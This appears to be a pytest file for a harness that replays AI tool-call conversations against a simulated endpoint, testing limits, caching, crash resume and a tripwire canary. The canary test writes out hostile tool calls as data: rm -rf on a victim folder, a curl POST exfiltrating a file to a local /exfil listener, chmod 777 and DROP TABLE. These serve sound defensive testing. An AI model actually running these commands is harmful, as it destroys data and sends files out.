"""Replay end to end against a real loopback endpoint (tests/faulty_server.py, its own process):
tool-call handling, step/token/time limits, the model-call cache (zero-call rerun, resume after
SIGKILL) and the canary that proves nothing a candidate asks for is executed."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from tasks.cache import ModelCache
from tasks.config import Endpoint, ReplayCfg
from tasks.replay import CALL_SCHEMA, replay_sample
from tests.faulty_server import (
    COMPLETION_TOKENS,
    PROMPT_TOKENS,
    ServerProcess,
    conversation,
    start_server,
    turn_frames,
)

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def server() -> Iterator[ServerProcess]:
    srv = start_server()
    yield srv
    srv.stop()


def replay(server: ServerProcess, convs: list[dict[str, Any]], model: str, cfg: ReplayCfg | None = None,
           cache: ModelCache | None = None, **endpoint: Any) -> tuple[pl.DataFrame, dict[str, Any]]:
    sample, frame = turn_frames(convs)
    stats: dict[str, Any] = {}
    traj, calls = asyncio.run(replay_sample(sample, frame, Endpoint(base_url=server.url, model=model, **endpoint),
                                            cfg or ReplayCfg(), 0, cache=cache, stats=stats))
    assert traj.height == len(convs)  # turns in == turns out
    assert calls == stats["model_calls"] == int(traj["model_calls"].sum())
    return traj, stats


def turn(traj: pl.DataFrame, i: int = 0) -> tuple[dict[str, Any], list[dict[str, Any]], list[dict[str, Any]]]:
    row = traj.row(i, named=True)
    return row, json.loads(row["messages"]), json.loads(row["tool_results"])


READ = {"name": "read_file", "arguments": {"path": "src/app.py"}}
LS = {"name": "shell", "arguments": {"command": "ls src"}}
RECORDING = [
    {"role": "user", "content": "look at the app"},
    {"role": "assistant", "content": "", "tool_calls": [{"id": "r1", "type": "function", "function": {
        "name": "read_file", "arguments": json.dumps({"path": "src/app.py"})}}]},
    {"role": "tool", "tool_call_id": "r1", "content": "print('recorded app')"},
    {"role": "assistant", "content": "It prints a greeting."},
]


def test_tool_calls_are_answered_by_the_simulator_and_recorded_per_call(server: ServerProcess) -> None:
    traj, stats = replay(server, [conversation("c1", script=[READ, LS], recording=RECORDING)], "script#sim")
    row, msgs, results = turn(traj)
    assert (row["finish"], row["error"], row["steps"], row["model_calls"]) == ("answered", None, 3, 3)
    assert [m["role"] for m in msgs] == ["assistant", "tool", "assistant", "tool", "assistant"]
    assert msgs[1]["content"] == "print('recorded app')"           # recorded result, then the
    assert msgs[3]["content"] == "app.py"                          # rules world state seeded by it
    assert msgs[-1]["content"] == "done: app.py"                   # the candidate saw the result
    assert [(r["source"], r["effects"]) for r in results] == [("recorded", ["read"]), ("rules", ["read"])]
    assert (row["prompt_tokens"], row["completion_tokens"]) == (3 * PROMPT_TOKENS, 3 * COMPLETION_TOKENS)
    calls = stats["calls"]
    assert calls.schema == pl.Schema(CALL_SCHEMA) and calls.height == 3
    assert calls["step"].to_list() == [0, 1, 2] and calls["retries"].sum() == 0
    assert calls["finish_reason"].to_list() == ["tool_calls", "tool_calls", "stop"]
    assert (calls["latency_s"] > 0).all() and row["latency_s"] == pytest.approx(calls["latency_s"].sum())


def test_invalid_arguments_and_unknown_tools_go_back_as_tool_errors(server: ServerProcess) -> None:
    script = [{"name": "read_file", "arguments": '{"path": "src/app.py"'},   # cut JSON
              {"name": "read_file", "arguments": '["src/app.py"]'},          # JSON, not an object
              {"name": "launch_rocket", "arguments": {"target": "moon"}},   # no such tool
              {"name": "shell", "arguments": {"command": "echo still here"}}]
    traj, _ = replay(server, [conversation("c1", script=script)], "script#toolerr")
    row, msgs, results = turn(traj)
    assert row["finish"] == "answered" and row["steps"] == 5  # the turn went on after each error
    tool_msgs = [m["content"] for m in msgs if m["role"] == "tool"]
    assert tool_msgs[0] == "Error: arguments for read_file are not valid JSON"
    assert tool_msgs[1] == "Error: arguments for read_file must be a JSON object"
    assert tool_msgs[2].startswith("Error: no tool named 'launch_rocket' exists here (available: ")
    assert tool_msgs[3] == "still here"
    assert [(r["source"], r["error"]) for r in results] == [("error", True)] * 3 + [("rules", False)]
    assert [m["tool_call_id"] for m in msgs if m["role"] == "tool"] == [f"call_{i}" for i in range(4)]


def test_a_tool_missing_from_the_declared_tools_is_an_error_even_if_emulable(server: ServerProcess) -> None:
    only_read = [t for t in conversation("x")["tools"] if t["function"]["name"] == "read_file"]
    traj, _ = replay(server, [conversation("c1", script=[LS], tools=only_read)], "script#undeclared")
    _, msgs, results = turn(traj)
    assert msgs[1]["content"] == "Error: no tool named 'shell' exists here (available: read_file)"
    assert results[0]["source"] == "error" and results[0]["effects"] == ["read"]


def test_step_limit_stops_the_turn_with_every_call_answered(server: ServerProcess) -> None:
    traj, _ = replay(server, [conversation("c1", script=[LS] * 6)], "script#steps", ReplayCfg(step_limit=3))
    row, msgs, _ = turn(traj)
    assert (row["finish"], row["error"], row["steps"]) == ("step_limit", None, 3)
    assert [m["role"] for m in msgs] == ["assistant", "tool"] * 3


def test_token_budget_finishes_as_budget(server: ServerProcess) -> None:
    per_call = PROMPT_TOKENS + COMPLETION_TOKENS
    traj, _ = replay(server, [conversation("c1", script=[LS] * 6)], "script#tokens",
                     ReplayCfg(token_budget=2 * per_call + 1))
    row, _, _ = turn(traj)
    assert (row["finish"], row["steps"]) == ("budget", 3)
    assert row["error"] == f"token_budget: {3 * per_call} tokens used of {2 * per_call + 1}"


def test_time_budget_cancels_the_call_in_flight(server: ServerProcess) -> None:
    t0 = time.perf_counter()
    traj, stats = replay(server, [conversation("c1", script=[LS] * 6)], "script@300#time",
                         ReplayCfg(time_budget_s=0.5))
    elapsed = time.perf_counter() - t0
    row, msgs, _ = turn(traj)
    assert row["finish"] == "budget" and row["error"].startswith("time_budget: 0.5 s")
    assert row["steps"] == 1 and len(msgs) == 2   # second call cancelled at 0.5 s, before its answer
    assert elapsed < 1.5
    assert stats["calls"]["error"].to_list() == [None, "time_budget"]


def test_time_budget_does_not_count_waiting_for_a_concurrency_slot(server: ServerProcess) -> None:
    # Each turn takes 0.25 s, well inside its 1.5 s budget even on a loaded machine; run one at a
    # time, the last of seven waits 1.5 s for its slot and the whole replay takes over 1.5 s, so a
    # clock started before the wait would cut at least the last turn.
    convs = [conversation(f"c{i}") for i in range(7)]
    traj, _ = replay(server, convs, "ok@250#slots", ReplayCfg(time_budget_s=1.5), concurrency=1)
    assert traj["latency_s"].sum() > 1.5
    assert set(traj["finish"]) == {"answered"}


def test_refusal_and_cut_responses(server: ServerProcess) -> None:
    convs = [conversation("refuse", behaviour="refuse"), conversation("cut", behaviour="length")]
    traj, _ = replay(server, convs, "ok#finish")
    refused, cut = traj.row(0, named=True), traj.row(1, named=True)
    assert (refused["finish"], refused["error"]) == ("refused", None)
    assert json.loads(refused["messages"])[0]["refusal"] == "I can't help with that."
    assert cut["finish"] == "error" and cut["error"] == "max_tokens: response cut at max_tokens=1024"
    assert json.loads(cut["messages"])[0]["content"] == "The answer is that the"  # kept for the judges


def test_a_turn_whose_conversation_is_missing_is_an_internal_error_not_lost(server: ServerProcess) -> None:
    sample, frame = turn_frames([conversation("c1"), conversation("c2")])
    traj, _ = asyncio.run(replay_sample(sample, frame.filter(pl.col("conversation_id") == "c1"),
                                        Endpoint(base_url=server.url, model="ok#missing"), ReplayCfg(), 0))
    assert traj["turn_id"].to_list() == ["c1#0", "c2#0"]
    assert traj["finish"].to_list() == ["answered", "error"]
    assert traj["error"][1] == "internal: KeyError: 'c2'"


# --- cache ----------------------------------------------------------------------------------

def test_model_cache_roundtrip_and_keys(tmp_path: Path) -> None:
    cache = ModelCache(tmp_path / "c")
    k1, k2 = ModelCache.key("http://a/v1", b'{"x":1}'), ModelCache.key("http://b/v1", b'{"x":1}')
    assert k1 != k2 and k1 != ModelCache.key("http://a/v1", b'{"x":2}') and len(k1) == 64
    assert cache.get(k1) is None
    cache.put(k1, {"response": {"a": 1}})
    assert ModelCache(tmp_path / "c").get(k1) == {"response": {"a": 1}} and len(cache) == 1
    (tmp_path / "c" / k1[:2] / f".{k1[2:]}.123.dead.tmp").write_text('{"torn')  # a killed writer's leftover
    path = tmp_path / "c" / k2[:2] / f"{k2[2:]}.json"
    path.parent.mkdir(exist_ok=True)
    path.write_text('{"torn')
    assert cache.get(k2) is None and len(cache) == 2  # an unreadable entry is a miss


def test_rerun_with_the_same_inputs_makes_no_model_call(server: ServerProcess, tmp_path: Path) -> None:
    convs = [conversation(f"c{i}", script=[READ, LS], recording=RECORDING) for i in range(5)]
    cache = ModelCache(tmp_path / "cache")
    first, s1 = replay(server, convs, "script#rerun", cache=cache)
    assert (s1["model_calls"], s1["cache_hits"], server.requests("script#rerun")) == (15, 0, 15)
    second, s2 = replay(server, convs, "script#rerun", cache=ModelCache(tmp_path / "cache"))
    assert (s2["model_calls"], s2["cache_hits"], server.requests("script#rerun")) == (0, 15, 15)
    cols = ["turn_id", "messages", "tool_results", "finish", "steps", "prompt_tokens", "completion_tokens", "latency_s"]
    assert second.select(cols).equals(first.select(cols))
    assert second["model_calls"].sum() == 0 and second["steps"].sum() == 15
    assert s2["calls"]["cached"].all()
    # Any change to the request is a miss: another seed reaches the endpoint again.
    replay(server, convs[:1], "script#rerun", cache=cache, seed=99)
    assert server.requests("script#rerun") == 18


def test_cache_dir_in_config_is_used_when_no_cache_is_passed(server: ServerProcess, tmp_path: Path) -> None:
    cfg = ReplayCfg(cache_dir=str(tmp_path / "cfgcache"))
    replay(server, [conversation("c1")], "ok#cfgcache", cfg)
    _, stats = replay(server, [conversation("c1")], "ok#cfgcache", cfg)
    assert (stats["model_calls"], stats["cache_hits"], server.requests("ok#cfgcache")) == (0, 1, 1)


_CHILD = """
import asyncio, json, sys
import polars as pl
from tasks.cache import ModelCache
from tasks.config import Endpoint, ReplayCfg
from tasks.replay import replay_sample
url, model, cache_dir, sample_p, convs_p, out_p = sys.argv[1:]
stats = {}
traj, _ = asyncio.run(replay_sample(pl.read_parquet(sample_p), pl.read_parquet(convs_p),
                                    Endpoint(base_url=url, model=model, concurrency=2), ReplayCfg(), 0,
                                    cache=ModelCache(cache_dir), stats=stats))
traj.write_parquet(out_p)
print(json.dumps({k: stats[k] for k in ("model_calls", "cache_hits", "retries")}))
"""


def test_a_run_killed_mid_replay_resumes_without_repeating_a_completed_call(
        server: ServerProcess, tmp_path: Path) -> None:
    convs = [conversation(f"c{i}", script=[READ, LS]) for i in range(12)]   # 3 calls per turn
    total = 36
    sample, frame = turn_frames(convs)
    sample.write_parquet(tmp_path / "sample.parquet")
    frame.write_parquet(tmp_path / "convs.parquet")
    model, cache_dir = "script@150#resume", tmp_path / "cache"
    args = [sys.executable, "-c", _CHILD, server.url, model, str(cache_dir), str(tmp_path / "sample.parquet"),
            str(tmp_path / "convs.parquet"), str(tmp_path / "out.parquet")]

    proc = subprocess.Popen(args, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while server.requests(model) < 10 and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(10)
    assert proc.returncode == -signal.SIGKILL, proc.stderr.read().decode() if proc.stderr else ""
    sent_first = server.requests(model)
    completed = len(ModelCache(cache_dir))
    assert 0 < completed < total and sent_first < total  # killed mid-run
    assert all(json.loads(p.read_text())["response"]["choices"] for p in cache_dir.glob("??/*.json"))

    done = subprocess.run(args, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    stats = json.loads(done.stdout)
    sent_second = server.requests(model) - sent_first
    assert sent_second == total - completed == stats["model_calls"]   # no completed call repeated
    assert stats["cache_hits"] == completed
    resumed = pl.read_parquet(tmp_path / "out.parquet")
    fresh, _ = replay(server, convs, "script#resume-fresh")
    cols = ["turn_id", "messages", "tool_results", "finish", "steps"]
    assert resumed.select(cols).equals(fresh.select(cols))


# --- nothing executes ---------------------------------------------------------------------

_WATCH: dict[str, Any] = {"active": False, "root": "", "port": -1, "seen": []}
_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND


def _audit(event: str, args: tuple[Any, ...]) -> None:
    """Tripwire for the canary: any process spawn, and any write, delete or connect near its targets."""
    w = _WATCH
    if not w["active"]:
        return
    if event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork",
                 "pty.spawn"):
        w["seen"].append((event, str(args)[:200]))
    elif event in ("os.remove", "os.rmdir", "os.rename", "os.replace", "shutil.rmtree", "shutil.move",
                   "os.truncate", "os.chmod", "os.mkdir"):
        if str(args[0]).startswith(w["root"]):
            w["seen"].append((event, str(args)[:200]))
    elif event == "open" and str(args[0]).startswith(w["root"]):
        mode, flags = args[1], args[2]
        if (isinstance(mode, str) and any(c in mode for c in "wax+")) or (mode is None and flags & _WRITE_FLAGS):
            w["seen"].append((event, str(args)[:200]))
    elif event == "socket.connect" and isinstance(args[1], tuple) and args[1][1:2] == (w["port"],):
        w["seen"].append((event, str(args)[:200]))


_AUDIT_INSTALLED: list[bool] = []


def _snapshot(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): p.read_text() for p in sorted(root.rglob("*")) if p.is_file()}


def test_canary_destructive_calls_through_the_whole_replay_touch_nothing(
        server: ServerProcess, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    (victim / "sub").mkdir(parents=True)
    (victim / "keep.txt").write_text("precious")
    (victim / "sub" / "data.csv").write_text("a,b\n1,2\n")
    before = _snapshot(victim)
    pwned, pwned2 = tmp_path / "pwned.txt", tmp_path / "pwned2.txt"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    script = [
        # /tmp paths are scratch for the effects (deleting them is not destructive): a second,
        # absent, non-scratch target keeps this call destructive without risking anything.
        {"name": "shell", "arguments": {"command": f"rm -rf {victim} /nonexistent-depsim-canary"}},
        {"name": "write_file", "arguments": {"path": str(pwned), "content": "owned"}},
        {"name": "shell", "arguments": {"command": f"curl -s -X POST http://127.0.0.1:{port}/exfil -d @{victim}/keep.txt"}},
        {"name": "http_request", "arguments": {"method": "POST", "url": f"http://127.0.0.1:{port}/", "body": "x"}},
        {"name": "shell", "arguments": {"command": f"python -c \"import os; os.remove('{victim}/keep.txt')\""}},
        {"name": "edit_file", "arguments": {"path": str(victim / "keep.txt"), "old_str": "precious", "new_str": "gone"}},
        {"name": "shell", "arguments": {"command": f"echo owned > {pwned2} && chmod 777 {victim}"}},
        {"name": "sql_query", "arguments": {"query": "DROP TABLE users;"}},
    ]
    if not _AUDIT_INSTALLED:
        sys.addaudithook(_audit)
        _AUDIT_INSTALLED.append(True)
    _WATCH.update(active=True, root=str(tmp_path), port=port, seen=[])
    try:
        traj, _ = replay(server, [conversation("canary", script=script)], "script#canary")
    finally:
        _WATCH["active"] = False
    row, msgs, results = turn(traj)
    try:
        # The calls reached the simulator, were classified, and were answered...
        assert row["finish"] == "answered" and len(results) == len(script)
        assert all(r["source"] in ("rules", "recorded") for r in results), results
        effects = [set(r["effects"]) for r in results]
        assert "destructive" in effects[0] and "write" in effects[1] and "network_egress" in effects[2]
        assert "privilege_change" in effects[6] and "destructive" in effects[7]
        assert msgs[3]["content"].startswith("Wrote 5 bytes")
        # ...and nothing was executed, written, deleted or connected to.
        assert _WATCH["seen"] == []
        assert _snapshot(victim) == before and victim.stat().st_mode & 0o777 != 0o777
        assert not pwned.exists() and not pwned2.exists()
        with pytest.raises(BlockingIOError):
            listener.accept()
        # Control: the listener check does see a connection when there is one.
        probe = socket.create_connection(("127.0.0.1", port), timeout=2)
        time.sleep(0.05)
        conn, _ = listener.accept()
        conn.close()
        probe.close()
    finally:
        listener.close()
